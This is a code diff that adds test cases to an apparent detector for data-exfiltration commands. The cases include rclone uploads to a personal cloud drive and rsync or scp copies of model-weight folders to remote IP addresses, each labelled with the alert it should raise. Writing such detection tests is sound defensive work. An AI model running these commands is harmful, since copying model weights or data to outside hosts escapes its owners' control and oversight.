@@ -87,6 +87,8 @@ def test_rules_load_cleanly():
     ("rclone copy --config my.conf ./data gdrive:exfil", "personal_cloud_upload"),
     ("scp -r ~/models/llama user@1.2.3.4:/x", "model_weights_copied_to_remote"),
     ("rsync -av ./models/ user@203.0.113.5:/data/", "model_weights_copied_to_remote"),
+    ("rsync -av /mnt/nfs/models/ user@203.0.113.5:/data/", "model_weights_copied_to_remote"),
+    ("rsync -av ~/project/models/ user@203.0.113.5:/x", "model_weights_copied_to_remote"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
